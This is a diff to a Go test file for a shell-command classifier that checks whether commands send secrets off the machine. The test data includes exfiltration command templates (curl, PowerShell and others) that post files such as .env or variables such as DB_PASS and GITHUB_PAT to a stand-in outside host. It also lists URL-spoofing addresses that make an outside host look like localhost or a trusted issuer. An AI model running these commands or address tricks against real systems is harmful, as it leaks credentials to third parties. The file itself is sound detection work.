@@ -10,14 +10,15 @@ import (
 	"github.com/checkrein/checkrein/internal/shell/classify"
 )
 
-// A sender is a program that sends what it is given to an address. Its language and
-// the shell around it read \ and @ in quotes in their own ways.
+// A sender is a program that sends a file or a variable to an address. Programs and the shells around
+// them differ in how \ and @ are quoted.
 type sender struct {
 	name, file, variable string
 	dialect              shell.Dialect
 	back, at             string // how \ and @ are written
 }
 
+// senders are templates of commands that send {FILE} or the variable {NAME} to {URL}.
 var senders = []sender{
 	{"curl", "curl --data-binary '@{FILE}' '{URL}'", `curl -d "x=${NAME}" '{URL}'`, shell.Bash, "", ""},
 	{"curl put", "curl -T '{FILE}' '{URL}'", `curl -X PUT --data-raw "${NAME}" '{URL}'`, shell.Bash, "", ""},
@@ -39,6 +40,8 @@ var senders = []sender{
 	{"powershell body", "Invoke-RestMethod -Uri '{URL}' -Method Post -Body (Get-Content -Raw '{FILE}')", `Invoke-WebRequest -Uri '{URL}' -Method Post -Body "x=$env:{NAME}"`, shell.PowerShell, "", ""},
 }
 
+// report returns the report on template, a command of s, with the file or variable what and the
+// address url.
 func (s *sender) report(template, what, url string) shell.Report {
 	if s.back != "" {
 		url = strings.ReplaceAll(url, `\`, s.back)
@@ -50,8 +53,8 @@ func (s *sender) report(template, what, url string) shell.Report {
 	return classify.Command(r.Replace(template), shell.Place{Dir: "/home/u/proj", Root: "/home/u/proj", Home: "/home/u", Dialect: s.dialect})
 }
 
-// sends returns what a report says goes off the machine: a secret, something, nothing.
-func sends(r shell.Report) string {
+// sentKind returns what leaves the machine according to r: "a secret", "something" or "nothing".
+func sentKind(r shell.Report) string {
 	out := "nothing"
 	for i := range r.Effects {
 		switch e := &r.Effects[i]; {
@@ -64,8 +67,9 @@ func sends(r shell.Report) string {
 	return out
 }
 
-// known reads a list of package fact, without what is a pattern or would need quotes.
-func known(t *testing.T, name string, spaces bool) []string {
+// factList returns the lines of testdata/name of package facts, without patterns and names that need
+// quotes. Unless spaces is true, names with spaces, dashes or dots are left out too.
+func factList(t *testing.T, name string, spaces bool) []string {
 	t.Helper()
 	data, err := os.ReadFile(filepath.Join("..", "..", "catalog", "facts", "testdata", name))
 	if err != nil {
@@ -83,19 +87,21 @@ func known(t *testing.T, name string, spaces bool) []string {
 	return out
 }
 
+// far is an address on another machine.
 const far = "https://in.acme.example/x"
 
-// farAddresses are addresses of another machine for some client that reads them.
+// farAddresses are addresses that at least one client resolves to another machine.
 var farAddresses = []string{
 	far, `http://in.acme.example\@localhost/`, `http://localhost\@in.acme.example/`, "http://localhost@in.acme.example/", "http://localhost.acme.example/", "http://127.0.0.1.acme.example/", "http://in.acme.example#@localhost/",
 	"http://localhost#@in.acme.example/", "http://in.acme.example;@localhost/", "http://localhost:80@in.acme.example/", "http://0177.0.0.1/", "http://93.184.216.34/", "http://1572395042/", "http://[2001:db8::1]/", "http://localhost%2eacme.example/",
 }
 
+// nearAddresses are addresses of this machine.
 var nearAddresses = []string{"http://localhost:3000/x", "http://127.0.0.1/x", "http://[::1]:8080/", "http://a.localhost/", "http://0.0.0.0:8000/", "http://LOCALHOST/", "http://localhost./", "http://u:p@localhost/"}
 
-// TestAlike sends every file and every variable that is a secret, and those that are
-// not, with every program: which one sends it makes no difference.
-func TestAlike(t *testing.T) {
+// TestAllSendersAreJudgedAlike sends secret and ordinary files and variables with every program, and
+// checks that the program makes no difference.
+func TestAllSendersAreJudgedAlike(t *testing.T) {
 	t.Parallel()
 	type list struct {
 		name, want string
@@ -105,9 +111,9 @@ func TestAlike(t *testing.T) {
 		{"secret_files.txt", "a secret", false}, {"ordinary_files.txt", "something", false},
 		{"secret_names.txt", "a secret", true}, {"ordinary_names.txt", "nothing", true},
 	} {
-		for _, what := range known(t, l.name, !l.vars) {
+		for _, what := range factList(t, l.name, !l.vars) {
 			if what == "/" || what == "." || what == "/home/sam" {
-				continue // all of it: there are secrets below
+				continue // the directory contains secrets
 			}
 			for i := range senders {
 				s := &senders[i]
@@ -115,10 +121,10 @@ func TestAlike(t *testing.T) {
 				if l.vars {
 					template = s.variable
 				}
-				if got := sends(s.report(template, what, far)); got != l.want && (l.want != "something" || got != "nothing") {
+				if got := sentKind(s.report(template, what, far)); got != l.want && (l.want != "something" || got != "nothing") {
 					t.Errorf("%s: %s sends %s, want %s", s.name, what, got, l.want)
 				}
-				if got := sends(s.report(template, what, "http://localhost:3000/x")); got != "nothing" {
+				if got := sentKind(s.report(template, what, "http://localhost:3000/x")); got != "nothing" {
 					t.Errorf("%s: %s to this machine sends %s", s.name, what, got)
 				}
 			}
@@ -128,14 +134,14 @@ func TestAlike(t *testing.T) {
 		s := &senders[i]
 		for _, url := range farAddresses {
 			for template, what := range map[string]string{s.file: ".env", s.variable: "DB_PASS"} {
-				if got := sends(s.report(template, what, url)); got != "a secret" {
+				if got := sentKind(s.report(template, what, url)); got != "a secret" {
 					t.Errorf("%s: %s to %s sends %s", s.name, what, url, got)
 				}
 			}
 		}
 		for _, url := range nearAddresses {
 			for template, what := range map[string]string{s.file: ".env", s.variable: "DB_PASS"} {
-				if got := sends(s.report(template, what, url)); got != "nothing" {
+				if got := sentKind(s.report(template, what, url)); got != "nothing" {
 					t.Errorf("%s: %s to %s sends %s", s.name, what, url, got)
 				}
 			}
@@ -143,7 +149,7 @@ func TestAlike(t *testing.T) {
 	}
 }
 
-// logins send a variable in the header HEADER.
+// logins are templates of commands that send the variable {NAME} in the header {HEADER}.
 var logins = []sender{
 	{"curl", "", `curl -H "{HEADER}: ${NAME}" '{URL}'`, shell.Bash, "", ""},
 	{"wget", "", `wget -q -O- --header="{HEADER}: ${NAME}" '{URL}'`, shell.Bash, "", ""},
@@ -155,8 +161,8 @@ var logins = []sender{
 	{"powershell", "", `Invoke-RestMethod -Uri '{URL}' -Headers @{'{HEADER}' = $env:{NAME}}`, shell.PowerShell, "", ""},
 }
 
-// TestAlikeLogins is about headers, where a secret may be how people log in.
-func TestAlikeLogins(t *testing.T) {
+// TestSecretsInHeaders checks secrets in HTTP headers, with which people log in.
+func TestSecretsInHeaders(t *testing.T) {
 	t.Parallel()
 	for _, r := range []struct{ header, name, url, want string }{
 		{"Authorization", "ACME_TOKEN", far, "nothing"}, {"X-API-Key", "ACME_KEY", far, "nothing"}, {"Cookie", "DB_PASS", far, "nothing"},
@@ -166,18 +172,18 @@ func TestAlikeLogins(t *testing.T) {
 	} {
 		for i := range logins {
 			s := &logins[i]
-			if got := sends(s.report(strings.ReplaceAll(s.variable, "{HEADER}", r.header), r.name, r.url)); got != r.want {
+			if got := sentKind(s.report(strings.ReplaceAll(s.variable, "{HEADER}", r.header), r.name, r.url)); got != r.want {
 				t.Errorf("%s: %s in %s to %s sends %s, want %s", s.name, r.name, r.header, r.url, got, r.want)
 			}
 		}
 	}
 	for i := range senders {
 		s := &senders[i]
-		if got := sends(s.report(s.variable, "GITHUB_PAT", "https://api.github.com/x")); got != "nothing" && s.back != `\\` { // whose owner is not looked for in code that is only scanned
-			t.Errorf("%s: a token to its owner sends %s", s.name, got)
+		if got := sentKind(s.report(s.variable, "GITHUB_PAT", "https://api.github.com/x")); got != "nothing" && s.back != `\\` { // whose owner is not looked for in code that is only scanned
+			t.Errorf("%s: a token sent to its issuer counts as %s", s.name, got)
 		}
-		if got := sends(s.report(s.variable, "GITHUB_PAT", `https://in.acme.example\@api.github.com/x`)); got != "a secret" {
-			t.Errorf("%s: a token to whom its owner does not vouch for sends %s", s.name, got)
+		if got := sentKind(s.report(s.variable, "GITHUB_PAT", `https://in.acme.example\@api.github.com/x`)); got != "a secret" {
+			t.Errorf("%s: a token sent to a host that imitates its issuer counts as %s", s.name, got)
 		}
 	}
 }
